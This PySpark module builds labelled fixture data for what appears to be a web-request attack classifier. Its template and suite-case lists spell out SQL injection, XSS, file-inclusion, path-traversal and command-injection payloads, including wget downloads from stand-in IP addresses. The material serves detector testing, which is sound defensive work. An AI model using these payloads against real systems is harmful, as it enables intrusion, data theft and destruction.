"""Derived inputs built by Spark from the driver tables (FIXTURES.md §3).

T  labelled lines   documents x templates (one template per document row)
R  requests         pages.url split into method/host/path/query + rule names
G  scored rows      embeddings -> 8 logits, truth label % 8, argmax prediction
V  request stream   events -> UTC timestamp, argument map, template payload
C  suite cases      events x suite cases (one case per event row)

The template and case tables are literal lists of our own (tens of rows, a
fixed size), so joining them to a driver table is a broadcast hash join whose
build side never grows; everything else scales with the driver tables.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession, functions as F

from reqsight.functions.decide import argmax
from reqsight.functions.draws import draw

ATTACK_SRC = "data/attack_lines.txt"
NORMAL_SRC = "data/normal_lines.txt"
# Our own labelled-line templates: (src, title, payload, is_attack). An empty title marks a line
# without the ": " separator. Every payload holds a slot for the document's whole text (new lines
# turned into spaces): as it is, in base64, in hex, or only its percent signs (empty for most texts).
TEXT_SLOT, BASE64_SLOT, HEX_SLOT, MARKS_SLOT = "{text}", "{base64}", "{hex}", "{marks}"
ENCODED_PREFIX = "<script>"  # put before a text that is encoded whole
TEMPLATES = [
    (ATTACK_SRC, "SQL tautology in a login field", "account={text}' OR 'zz'='zz' #", True),
    (ATTACK_SRC, "SQLi through a union", "item=44 UNION SELECT pin, iban FROM wallets -- {text}", True),
    (ATTACK_SRC, "NoSQL operator in JSON", 'filter={"$ne": "{text}"}', True),
    (ATTACK_SRC, "Probe 12", "ref=8 AND 5=5 OR 1=1; DROP TABLE parcels {text}", True),
    (ATTACK_SRC, "Probe B7", "q={text}'; WAITFOR DELAY '0:0:9'--", True),
    (ATTACK_SRC, "Cross-Site Scripting, reflected", "msg=<script>top.status=7</script>{text}", True),
    (ATTACK_SRC, "XSS in an alt text", 'alt={text}"><img src=q onerror=prompt(4)>', True),
    (ATTACK_SRC, "Probe 3", "<svg onload=confirm(2)>{text}", True),
    (ATTACK_SRC, "Newsletter form", "sig=<body onpointerrawupdate=prompt(6)>{text}", True),
    (ATTACK_SRC, "Encoded probe", "%3Cscript%3Etop.name%3D5%3C%2Fscript%3E{text}", True),
    (ATTACK_SRC, "Twice encoded probe", "{text}%253Cimg%2520src%253Dq%2520onerror%253Dprompt(3)%253E", True),
    (ATTACK_SRC, "Local File Inclusion", "view=/etc/passwd&note={text}", True),
    (ATTACK_SRC, "LFI through a wrapper", "src=zip://parcel.zip%23{text}", True),
    (ATTACK_SRC, "Probe 9", "tpl=/etc/passwd {text}", True),
    (ATTACK_SRC, "Probe 10", "skin=c:/win.ini {text}", True),
    (ATTACK_SRC, "Directory Traversal", "fetch=../../../data/ledger.db {text}", True),
    (ATTACK_SRC, "Path Traversal, backslashes", "open=..\\..\\site\\conf.txt {text}", True),
    (ATTACK_SRC, "Probe 21", "pic=..%2f..%2fkeys.yml {text}", True),
    (ATTACK_SRC, "Probe 22", "f=../theme/../../plan.txt {text}", True),
    (ATTACK_SRC, "Remote Code Execution", "run=; cat ledger.txt {text}", True),
    (ATTACK_SRC, "OS Command Injection", "node=10.9.8.7 | ls -ltr {text}", True),
    (ATTACK_SRC, "Probe 14", "mirror=files.test; wget http://203.0.113.77/p.bin {text}", True),
    (ATTACK_SRC, "Source review", "v=`id` {text}", True),
    (ATTACK_SRC, "Unrestricted File Upload", "doc=cover.php.gif {text}", True),
    (ATTACK_SRC, "Upload bypass", "avatar=me.phtml {text}", True),
    (ATTACK_SRC, "Upload with a false type", "sheet=report.jsp;type=image/png {text}", True),
    (ATTACK_SRC, "Probe 17", "token={text}", True),
    (ATTACK_SRC, "Probe 18", "session={text}", True),
    (ATTACK_SRC, "Probe 23", "item=7 UNION SELECT pin, code FROM vaults {text}", True),
    (ATTACK_SRC, "Probe 24", "who=ann' OR 1=1 -- {text}", True),
    (ATTACK_SRC, "Probe 25", "id=3; DROP TABLE carts -- {text}", True),
    (ATTACK_SRC, "Probe 26", "note=<script>self.name=4</script>{text}", True),
    (ATTACK_SRC, "Probe 27", 'pic={text}"><img src=r onerror=confirm(5)>', True),
    (ATTACK_SRC, "Probe 28", "read=/etc/passwd {text}", True),
    (ATTACK_SRC, "Probe 29", "page=../../../../var/plan.db {text}", True),
    (ATTACK_SRC, "Probe 30", "dir=../../keys.yml {text}", True),
    (ATTACK_SRC, "Probe 31", "job=; cat plan.txt {text}", True),
    (ATTACK_SRC, "Probe 32", "from=wget http://203.0.113.9/r.bin {text}", True),
    (ATTACK_SRC, "Probe 33", "then=; wget http://198.51.100.4/s.sh {text}", True),
    (ATTACK_SRC, "Probe 34", "dns=10.1.1.9 | ls -a {text}", True),
    (ATTACK_SRC, "File upload, double ending", "doc=memo.php.png {text}", True),
    (ATTACK_SRC, "Upload of a script", "doc=album.php.jpg {text}", True),
    (ATTACK_SRC, "Probe 35", "token={text}&session=1", True),
    (ATTACK_SRC, "Probe 36", "session={text}&token=2", True),
    (ATTACK_SRC, "Base64 probe", "{base64}", True),
    (ATTACK_SRC, "Hex probe", "0x{hex}", True),
    (ATTACK_SRC, "Empty probe", "{marks}", True),
    (ATTACK_SRC, "", "wget http://198.51.100.23/k.sh -O /tmp/k {text}", True),
    (ATTACK_SRC, "", "%2e%2e%2f%2e%2e%2fdata%2fledger {text}", True),
    (ATTACK_SRC, "\u00c9chantillon 4", "nom=No\u00eblle' OR 1=1 -- {text}", True),
    (ATTACK_SRC, "Probe 40", "comment={text}", True),
    (NORMAL_SRC, "Search", "q=where to repair a wool coat {text}", False),
    (NORMAL_SRC, "Catalogue page", "product=kettle&lang=fi&note={text}", False),
    (NORMAL_SRC, "Sign-in", "login=ada.k&stay=yes {text}", False),
    (NORMAL_SRC, "False positive menu", "dish=select the soup of the union hall {text}", False),
    (NORMAL_SRC, "Accented search", "q=g\u00e2teau \u00e0 l'orange {text}", False),
    (NORMAL_SRC, "", "GET /theme/base.css {text}", False),
    (NORMAL_SRC, "Beacon", "utm_source=paper&utm_medium=post&screen=1024x768 {text}", False),
    (NORMAL_SRC, "Blog comment", "comment={text}", False),
    (NORMAL_SRC, "Empty form", "{marks}", False),
    (NORMAL_SRC, "Profile", "bio={text}; city=Oulu", False),
]
N_TEMPLATES = len(TEMPLATES)

# Rule names attached to requests by page_id % 7 (our own values).
RULE_NAMES = ["", "sqli-942100", "xss-941100;xss-941160", "lfi-930120",
              "rce-932100;rce-932150", "scanner-913100", "sqli-942100;xss-941100"]

# Our own suite cases: (name, [(key, value), ...], expected_class).
SUITE_CASES = [
    ("Plain search", [("q", "rain boots in size 38")], "normal"),
    ("Plain section", [("section", "opening-hours"), ("ref", "mail")], "normal"),
    ("Plain sign-in", [("who", "t.varga"), ("phrase", "seven green kettles")], "normal"),
    ("Words that only look like a query", [("dish", "menu%20select")], "normal"),
    ("Tautology", [("who", "zoe' or '1'='1"), ("phrase", "y")], "sqli"),
    ("Union over wallets", [("item", "9 union select pin, iban")], "sqli"),
    ("Script element", [("msg", "<script>top.status=2</script>")], "xss"),
    ("Broken image", [("alt", '"><img src=q onerror=prompt(8)>')], "xss"),
    ("Account file", [("view", "/etc/passwd")], "lfi"),
    ("Parent folders", [("tpl", "../../plan/notes.txt")], "traversal"),
    ("Piped listing", [("node", "10.9.8.7 | ls -ltr")], "rce"),
    ("Download and run", [("mirror", "wget http://203.0.113.77/p.bin")], "rce"),
    ("Percent-encoded element", [("msg", "%3Cscript%3Etop.name%3D5%3C%2Fscript%3E")], "xss"),
    ("Encoded four times", [("msg", "%2525253Csvg%2525253E")], "xss"),
    ("Base64 value", [("blob", "PHNjcmlwdD50b3Auc3RhdHVzPTI8L3NjcmlwdD4=")], "xss"),
    ("Short base64 value", [("blob", "Li4v")], "traversal"),
    ("Hex value", [("blob", "0x3c7363726970743e")], "xss"),
    ("File name", [("doc", "cover.php.gif")], "normal"),
]
N_CASES = len(SUITE_CASES)


def templates_df(spark: SparkSession) -> DataFrame:
    rows = [(i, s, t, p, a) for i, (s, t, p, a) in enumerate(TEMPLATES)]
    return spark.createDataFrame(
        rows, "tid int, src string, title string, tpl_payload string, is_attack boolean")


def suite_df(spark: SparkSession) -> DataFrame:
    rows = [(i, n, [list(kv) for kv in args], e) for i, (n, args, e) in enumerate(SUITE_CASES)]
    df = spark.createDataFrame(rows, "cid int, name string, kv array<array<string>>, expected_class string")
    args = F.map_from_entries(F.transform("kv", lambda x: F.struct(
        x[0].alias("key"), x[1].alias("value"))))
    return df.select("cid", "name", args.alias("args"), "expected_class")


def read_table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")


def fill(template, text):
    """A template payload with the whole (flattened) text in its slot."""
    coded = F.concat(F.lit(ENCODED_PREFIX), text).cast("binary")
    p = F.replace(template, F.lit(TEXT_SLOT), text)
    p = F.when(template.contains(BASE64_SLOT), F.replace(p, F.lit(BASE64_SLOT), F.regexp_replace(F.base64(coded), "[\r\n]", ""))).otherwise(p)
    p = F.when(template.contains(HEX_SLOT), F.replace(p, F.lit(HEX_SLOT), F.lower(F.hex(coded)))).otherwise(p)
    return F.when(template.contains(MARKS_SLOT), F.regexp_replace(text, "[^%]", "")).otherwise(p)


def flat(text):
    return F.replace(F.coalesce(text, F.lit("")), F.lit("\n"), F.lit(" "))


def labelled_lines(spark: SparkSession, sf_dir: str) -> DataFrame:
    """T: one labelled line per documents row, the document's whole text in it: ``id, tid, src, title, payload, is_attack``."""
    docs = read_table(spark, sf_dir, "documents").select("doc_id", "text", "source")
    tpl = templates_df(spark)
    picked = docs.withColumn("tid", (draw("doc_id", "t") % N_TEMPLATES).cast("int"))
    title = F.when(F.col("title") == "", F.lit("")).otherwise(F.concat_ws(" ", "title", "source"))
    return (picked.join(F.broadcast(tpl), "tid")
            .select(F.col("doc_id").alias("id"), "tid", "src", title.alias("title"),
                    fill(F.col("tpl_payload"), flat(F.col("text"))).alias("payload"), "is_attack"))


def requests(spark: SparkSession, sf_dir: str) -> DataFrame:
    """R: ``page_id, http_method, host, http_path, http_query, rule_names``."""
    from reqsight.functions.payload import split_url
    pages = read_table(spark, sf_dir, "pages").select("page_id", "url")
    parts = split_url(F.col("url"))
    rules = F.element_at(F.array(*[F.lit(r) for r in RULE_NAMES]),
                         (F.col("page_id") % len(RULE_NAMES) + 1).cast("int"))
    return pages.select("page_id", F.lit("GET").alias("http_method"),
                        parts["host"].alias("host"), parts["path"].alias("http_path"),
                        parts["query"].alias("http_query"), rules.alias("rule_names"))


def fold_logits(vector: str, place):
    """8 logits from all values of a vector: logit k sums the values whose 0-based position i has ``place(i)`` = k."""
    value = F.transform(vector, lambda x: x.cast("double"))

    def logit(k):
        return F.aggregate(F.filter(value, lambda x, i: place(i) == k), F.lit(0.0), lambda a, x: a + x)

    return F.array(*[logit(k) for k in range(8)])


def scored_rows(spark: SparkSession, sf_dir: str) -> DataFrame:
    """G: ``vec_id, logits ARRAY<DOUBLE>[8], label, pred``; logit k folds the values at positions k mod 8."""
    emb = read_table(spark, sf_dir, "embeddings")
    logits = fold_logits("embedding", lambda i: i % 8)
    return (emb.select("vec_id", logits.alias("logits"), (F.col("label") % 8).cast("int").alias("label"))
            .withColumn("pred", argmax("logits")))


def with_payload(events: DataFrame) -> DataFrame:
    """V from a (batch or streaming) events table: args are the props plus the template's payload as ``p``; payload is their P1.

    The rows of the empty templates have no arguments.
    """
    from reqsight.functions.payload import assemble_payload, json_args
    spark = events.sparkSession
    tpl = templates_df(spark).select("tid", "tpl_payload")
    props = json_args(F.col("props"))
    args = F.when(F.col("tpl_payload").contains(MARKS_SLOT), F.map_filter(props, lambda k, v: k.contains("%"))).otherwise(
        F.map_concat(props, F.create_map(F.lit("p"), fill(F.col("tpl_payload"), F.lit("")))))
    return (events.withColumn("tid", (draw("event_id", "t") % N_TEMPLATES).cast("int"))
            .join(F.broadcast(tpl), "tid")
            .select("event_id", utc_instant(F.col("ts")).alias("ts"), "user_id", args.alias("args"))
            .withColumn("payload", assemble_payload("args")))


def request_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    """V: ``event_id, ts TIMESTAMP (UTC), user_id, args MAP, payload``."""
    return with_payload(read_table(spark, sf_dir, "events").select("event_id", "ts", "user_id", "props"))


def utc_instant(ts_ntz):
    """TIMESTAMP_NTZ wall clock read as UTC -> TIMESTAMP, whatever the session time zone."""
    return F.concat(ts_ntz.cast("string"), F.lit("+00:00")).cast("timestamp")


def suite_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    """C: one suite case per events row, the event's props followed by its arguments."""
    from reqsight.functions.payload import json_args
    ev = read_table(spark, sf_dir, "events").select("event_id", "props")
    cases = suite_df(spark)
    return (ev.withColumn("cid", (draw("event_id", "c") % N_CASES).cast("int"))
            .join(F.broadcast(cases), "cid")
            .select("event_id", "cid", "name", F.map_concat(json_args(F.col("props")), "args").alias("args"), "expected_class"))
